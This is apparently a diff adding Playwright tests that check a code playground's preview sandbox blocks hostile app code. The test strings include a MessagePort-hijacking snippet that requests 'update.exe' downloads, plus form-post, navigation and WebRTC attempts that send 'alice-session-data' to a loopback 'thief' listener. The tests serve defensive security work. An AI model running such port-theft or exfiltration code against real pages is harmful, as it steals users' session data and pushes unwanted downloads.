@@ -1,5 +1,8 @@
+import { createSocket } from 'node:dgram';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { expect, test, type Page } from '@playwright/test';
-import { afterRebuild, openTemplate, replaceFile } from './helpers';
+import { afterRebuild, openTemplate, preview, replaceFile } from './helpers';
 
 test.describe.configure({ timeout: 120_000 });
 
@@ -84,4 +87,170 @@ test('a loop in client code leaves the page answering, and the preview that stop
   // blocked while the looping process lives on after its frame is removed: see the closing note.)
   await page.getByRole('tab', { name: 'Events' }).dispatchEvent('click');
   await expect(page.locator('.events li[data-kind="preview.unresponsive"]').first()).toBeVisible();
+});
+
+/**
+ * Hostile client code from a shared link: it patches MessagePort.prototype.postMessage, so the
+ * bootstrap's next message hands it the port to the playground, and asks for downloads on its own.
+ */
+const PORT_THIEF = `import { render } from 'preact';
+let stolen: MessagePort | undefined;
+const original = MessagePort.prototype.postMessage;
+MessagePort.prototype.postMessage = function (this: MessagePort, ...args: unknown[]) {
+  stolen = this;
+  return (original as (...a: unknown[]) => void).apply(this, args);
+};
+function grab() {
+  if (!stolen) return setTimeout(grab, 10);
+  stolen.postMessage({ type: 'download', path: '/favicon.svg', name: 'invoice.html' });
+  stolen.postMessage({ type: 'download', path: '/favicon.svg', name: 'update.exe' });
+  document.getElementById('state')!.textContent = 'sent';
+}
+render(
+  <main>
+    <p id="state">waiting</p>
+    <button id="harmless" onClick={() => stolen!.postMessage({ type: 'download', path: '/favicon.svg', name: 'update.exe' })}>Add todo</button>
+  </main>,
+  document.getElementById('app')!,
+);
+grab();
+`;
+
+test('a captured preview port cannot download anything without a person, and a click in the app only offers a download the person confirms', async ({ page }, testInfo) => {
+  const downloads: string[] = [];
+  page.on('download', (download) => downloads.push(download.suggestedFilename()));
+  await openTemplate(page);
+  await replaceClient(page, PORT_THIEF);
+  await expect(preview(page).locator('#state')).toHaveText('sent');
+  await page.getByRole('tab', { name: 'Events' }).click();
+  const notices = page.locator('.events li[data-kind="preview.notice"]');
+  // Both asks are refused on the playground's side (where the app's code cannot fake a click).
+  await expect(notices.filter({ hasText: 'save invoice.html from /favicon.svg without a click in it: refused' })).toHaveCount(1);
+  await expect(notices.filter({ hasText: 'save update.exe from /favicon.svg without a click in it: refused' })).toHaveCount(1);
+  // A person's click on something harmless in the app: what the app asks then is only an offer.
+  await preview(page).getByRole('button', { name: 'Add todo' }).click();
+  const offer = page.getByRole('alertdialog', { name: 'Download from the preview' });
+  await expect(offer).toContainText('update.exe');
+  expect(downloads).toEqual([]);
+  await testInfo.attach('offer', { body: await page.screenshot(), contentType: 'image/png' });
+  await offer.getByRole('button', { name: 'Dismiss' }).click();
+  await expect(offer).toHaveCount(0);
+  expect(downloads).toEqual([]);
+});
+
+/** A listener on loopback that records every request: where the app would send what it stole. */
+async function listener(): Promise<{ url: string; hits: string[]; firstHit: Promise<string>; close(): Promise<void> }> {
+  const hits: string[] = [];
+  let hit!: (line: string) => void;
+  const firstHit = new Promise<string>((resolve) => (hit = resolve));
+  const server = createServer((request, response) => {
+    let body = '';
+    request.on('data', (chunk) => (body += chunk));
+    request.on('end', () => {
+      const line = `${request.method} ${request.url} ${body}`;
+      hits.push(line);
+      hit(line);
+      response.end('<p>got it</p>');
+    });
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const { port } = server.address() as AddressInfo;
+  return { url: `http://127.0.0.1:${port}`, hits, firstHit, close: () => new Promise((resolve) => {
+      server.close(() => resolve());
+      server.closeAllConnections();
+    }),
+  };
+}
+
+/** Whichever comes first: the thief's listener hearing from the app, or the sign that it was refused. */
+async function refusedOrLeaked(leak: Promise<string>, refused: Promise<unknown>): Promise<string> {
+  return Promise.race([leak.then((line) => `LEAKED ${line}`), refused.then(() => 'refused')]);
+}
+
+test('a form post from the preview reaches no one', async ({ page }) => {
+  const thief = await listener();
+  try {
+    await openTemplate(page);
+    await replaceClient(
+      page,
+      `import { render } from 'preact';
+render(<p id="ready">posting</p>, document.getElementById('app')!);
+addEventListener('securitypolicyviolation', (event) => document.getElementById('ready')!.setAttribute('data-refused', event.violatedDirective));
+const form = document.createElement('form');
+form.method = 'POST';
+form.action = '${thief.url}/collect';
+const field = document.createElement('input');
+field.name = 'stolen';
+field.value = 'alice-session-data';
+form.appendChild(field);
+document.body.appendChild(form);
+form.submit();
+`,
+    );
+    // Refused either in the page (a CSP violation it sees) or as a navigation the playground stops.
+    const refused = Promise.any([
+      expect(preview(page).locator('#ready')).toHaveAttribute('data-refused', 'form-action', { timeout: 30_000 }),
+      expect(page.locator('.preview-stopped')).toContainText('tried to navigate its preview away', { timeout: 30_000 }),
+    ]);
+    expect(await refusedOrLeaked(thief.firstHit, refused)).toBe('refused');
+    expect(thief.hits).toEqual([]);
+  } finally {
+    await thief.close();
+  }
+});
+
+test('the preview cannot navigate itself out of the app, with a script or a scripted link click', async ({ page }) => {
+  const thief = await listener();
+  try {
+    await openTemplate(page);
+    await page.getByRole('tab', { name: 'Events' }).click();
+    const left = page.locator('.events li[data-kind="preview.notice"]').filter({ hasText: 'tried to navigate away from the app' });
+    for (const [how, code] of [
+      ['location', `location.href = '${thief.url}/nav?stolen=alice-session-data';`],
+      ['link', `const a = document.createElement('a'); a.href = '${thief.url}/link?stolen=alice-session-data'; document.body.appendChild(a); a.click();`],
+    ] as const) {
+      const before = await left.count();
+      await replaceClient(page, `import { render } from 'preact';\nrender(<p>${how}</p>, document.getElementById('app')!);\nsetTimeout(() => { ${code} }, 0);\n`);
+      const refused = expect(left).toHaveCount(before + 1, { timeout: 30_000 });
+      expect(await refusedOrLeaked(thief.firstHit, refused), how).toBe('refused');
+      await expect(page.locator('.preview-stopped')).toContainText('tried to navigate its preview away');
+    }
+    expect(thief.hits).toEqual([]);
+  } finally {
+    await thief.close();
+  }
+});
+
+test('WebRTC is not available to app code, not even in a frame the app makes', async ({ page }) => {
+  const stun = createSocket('udp4');
+  let packet!: (size: number) => void;
+  const packets = new Promise<number>((resolve) => (packet = resolve));
+  stun.on('message', (message) => packet(message.length));
+  await new Promise<void>((resolve) => stun.bind(0, '127.0.0.1', resolve));
+  const target = `stun:127.0.0.1:${stun.address().port}`;
+  try {
+    await openTemplate(page);
+    const attempt = `try { const pc = new RTCPeerConnection({ iceServers: [{ urls: '${target}' }] }); pc.createDataChannel('x'); pc.createOffer().then((offer) => pc.setLocalDescription(offer)); return 'REACHED'; } catch (error) { return 'blocked'; }`;
+    // A frame of the app's own making has a fresh window of its own, with its own RTCPeerConnection.
+    const nestedDocument = `<script>parent.postMessage((function () { ${attempt} })(), '*')</` + `script>`;
+    await replaceClient(
+      page,
+      `import { render } from 'preact';
+function own() { ${attempt} }
+let nestedSaid = 'blocked';
+addEventListener('message', (event) => { if (event.source === nested.contentWindow) nestedSaid = String(event.data); });
+const nested = document.createElement('iframe');
+nested.srcdoc = ${JSON.stringify(nestedDocument)};
+nested.onload = () => render(<p id="result" data-own={own()} data-nested={nestedSaid}>done</p>, document.getElementById('app')!);
+document.body.appendChild(nested);
+`,
+    );
+    const result = preview(page).locator('#result');
+    const settled = expect(result).toHaveText('done', { timeout: 30_000 });
+    expect(await refusedOrLeaked(packets.then((size) => `STUN packet of ${size} bytes`), settled)).toBe('refused');
+    await expect(result).toHaveAttribute('data-own', 'blocked');
+    await expect(result).toHaveAttribute('data-nested', 'blocked');
+  } finally {
+    stun.close();
+  }
 });
